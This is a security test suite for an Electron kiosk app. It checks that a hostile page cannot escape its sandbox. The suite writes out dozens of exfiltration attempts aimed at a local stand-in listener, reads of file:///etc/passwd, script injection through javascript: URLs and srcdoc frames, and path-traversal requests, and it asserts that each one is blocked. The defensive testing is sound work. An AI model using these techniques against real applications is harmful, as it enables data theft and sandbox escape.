import type { Kiosk } from './support/open-kiosk.ts';
import { expect, shareKiosk, test } from './support/kiosk.ts';
import { type ListeningPost, openListeningPost } from './support/listening-post.ts';

shareKiosk();

/** What a hostile page would try. Each is code for the page; `post` is the address nobody must reach. */
const attempts: Record<string, (post: string) => unknown> = {
  fetch: (post) => fetch(`http://${post}/fetch`),
  XMLHttpRequest: (post) => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${post}/xhr`);
    request.send();
  },
  WebSocket: (post) => new WebSocket(`ws://${post}/socket`),
  EventSource: (post) => new EventSource(`http://${post}/events`),
  beacon: (post) => navigator.sendBeacon(`http://${post}/beacon`, 'x'),
  image: (post) => {
    new Image().src = `http://${post}/image`;
  },
  'style sheet, script, font and prefetch': (post) => {
    for (const rel of [
      'stylesheet',
      'preload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'icon',
    ]) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: `http://${post}/${rel}` });
      document.head.append(link);
    }
    const script = document.createElement('script');
    script.src = `http://${post}/script`;
    document.head.append(script);
    document.fonts.add(new FontFace('far', `url(http://${post}/font)`));
    return document.fonts.load('10px far');
  },
  'frames and objects': (post) => {
    for (const [tag, source] of [
      ['iframe', 'src'],
      ['embed', 'src'],
      ['object', 'data'],
    ] as const) {
      const element = document.createElement(tag);
      element.setAttribute(source, `http://${post}/${tag}`);
      document.body.append(element);
    }
  },
  'a frame of its own making': () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.stolen = parent.kiosk</script>';
    document.body.append(frame);
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.stolen = true';
    document.head.append(script);
  },
  eval: () => {
    const made: unknown = Reflect.construct(Function, ['window.stolen = true']);
    if (typeof made === 'function') Reflect.apply(made, undefined, []);
  },
  form: (post) => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: `http://${post}/form` });
    document.body.append(form);
    form.submit();
  },
  'going elsewhere': (post) => location.assign(`http://${post}/assign`),
  'going to a file': () => location.assign('file:///etc/passwd'),
  'going to a script': () => location.assign('javascript:window.stolen=true'),
  'going to data': () => location.assign('data:text/html,<h1>elsewhere</h1>'),
  'reading a file': () => fetch('file:///etc/passwd'),
  'a new window': (post) => window.open(`http://${post}/window`),
  'an empty new window': () => window.open('about:blank'),
  'a link to a new window, with a ping': (post) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `http://${post}/link`, target: '_blank', ping: `http://${post}/ping` });
    document.body.append(link);
    link.click();
  },
  'a download': (post) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `http://${post}/download`, download: 'loot' });
    document.body.append(link);
    link.click();
  },
  'a download of its own making': () => {
    const link = document.createElement('a');
    Object.assign(link, { href: URL.createObjectURL(new Blob(['loot'])), download: 'loot' });
    document.body.append(link);
    link.click();
  },
  WebRTC: async (post) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${post}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
    connection.close();
  },
  WebTransport: (post) => new WebTransport(`https://${post}/transport`).ready,
  'a worker': (post) => new Worker(`http://${post}/worker`),
  'a worker of its own making': () => new Worker(URL.createObjectURL(new Blob(['1']))),
  'a service worker': () => navigator.serviceWorker.register('./worker.js'),
  'a module from elsewhere': (post) => import(/* @vite-ignore */ `http://${post}/module.js`),
  printing: () => window.print(),
  'an alert': () => {
    alert('hello');
    confirm('hello?');
    prompt('hello!');
  },
  'the file picker': () => {
    const input = document.createElement('input');
    input.type = 'file';
    input.showPicker();
  },
};

async function leftOver({ publicPage, app }: Kiosk) {
  return {
    address: publicPage.url(),
    stolen: await publicPage.evaluate(() => 'stolen' in window),
    answers: await publicPage.evaluate(() => 1 + 1),
    windows: await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length),
    frames: publicPage.frames().filter((frame) => frame.url().startsWith('http')).length,
  };
}

test.describe('a hostile page', () => {
  let post: ListeningPost;
  test.beforeEach(async () => {
    post = await openListeningPost();
  });
  test.afterEach(() => post.close());

  test('stays where it is and reaches nobody', async ({ kiosk }) => {
    kiosk.complaints.expect(/./u);
    const { publicPage } = kiosk;
    const home = await leftOver(kiosk);
    for (const [name, attempt] of Object.entries(attempts)) {
      // Most of these fail loudly, some silently: what counts is what is left afterwards.
      await publicPage.evaluate(
        // In a task of the page's own: what a test tool runs directly is let off the policy.
        `new Promise((done) => setTimeout(async () => {
          setTimeout(done, 2000);
          try { await (${attempt.toString()})(${JSON.stringify(post.address)}); } finally { done(); }
        }))`,
      );
      await publicPage.waitForTimeout(100);
      expect(await leftOver(kiosk), name).toEqual(home);
      expect(post.heard, name).toEqual([]);
    }
  });

  test('even without the content policy, every session refuses a request before it is made', async ({
    kiosk,
  }) => {
    const told = await kiosk.app.evaluate(async ({ session }, address) => {
      const outcomes: string[] = [];
      for (const name of ['public', 'desk', 'paper', ''])
        for (const url of [`http://${address}/`, 'https://example.org/']) {
          const its = name === '' ? session.defaultSession : session.fromPartition(name);
          outcomes.push(await its.fetch(url).then(() => `${name} reached ${url}`, String));
        }
      return outcomes;
    }, post.address);
    expect(told).toHaveLength(8);
    for (const outcome of told) expect(outcome).toContain('ERR_BLOCKED_BY_CLIENT');
    expect(post.heard).toEqual([]);
  });

  test('no name is ever looked up, not even that of this machine', async ({ kiosk }) => {
    const found = await kiosk.app.evaluate(({ session }) =>
      Promise.all(
        ['localhost', '127.0.0.1', 'example.org'].map((name) =>
          session
            .fromPartition('public')
            .resolveHost(name)
            .then(
              () => `found ${name}`,
              () => 'not found',
            ),
        ),
      ),
    );
    expect(found).toEqual(['not found', 'not found', 'not found']);
  });
});

test('a file dropped on the screen does nothing', async ({ kiosk }) => {
  const { publicPage } = kiosk;
  const tools = await publicPage.context().newCDPSession(publicPage);
  const data = { items: [], files: ['/etc/passwd'], dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await tools.send('Input.dispatchDragEvent', { type, x: 400, y: 300, data });
  await publicPage.waitForTimeout(300);
  expect(publicPage.url()).toBe('app://kiosk/index.html');
});

test('only the built files are served, with the policy', async ({ kiosk }) => {
  kiosk.complaints.expect(/./u);
  const { publicPage } = kiosk;
  const served = await publicPage.evaluate(async () => {
    const status = (url: string, settings?: RequestInit) =>
      fetch(url, settings).then(
        ({ status: code }) => code,
        () => 0,
      );
    const index = await fetch('app://kiosk/index.html');
    return {
      policy: index.headers.get('content-security-policy') ?? '',
      sniffing: index.headers.get('x-content-type-options'),
      index: index.status,
      others: await Promise.all([
        status('app://kiosk/'),
        status('app://kiosk/../main/main.js'),
        status('app://kiosk/%2e%2e/main/main.js'),
        status('app://kiosk/..%2fmain%2fmain.js'),
        status('app://kiosk/..%5cmain%5cmain.js'),
        status('app://kiosk//etc/passwd'),
        status('app://kiosk/INDEX.HTML'),
        status('app://elsewhere/index.html'),
        status('app://kiosk/index.html', { method: 'POST' }),
      ]),
    };
  });
  expect(served.index).toBe(200);
  expect(served.sniffing).toBe('nosniff');
  expect(served.policy).toContain("default-src 'none'");
  expect(served.policy).not.toContain('unsafe');
  expect(served.policy).not.toContain('allow-modals');
  expect(served.others.filter((status) => status === 200)).toEqual([]);
});
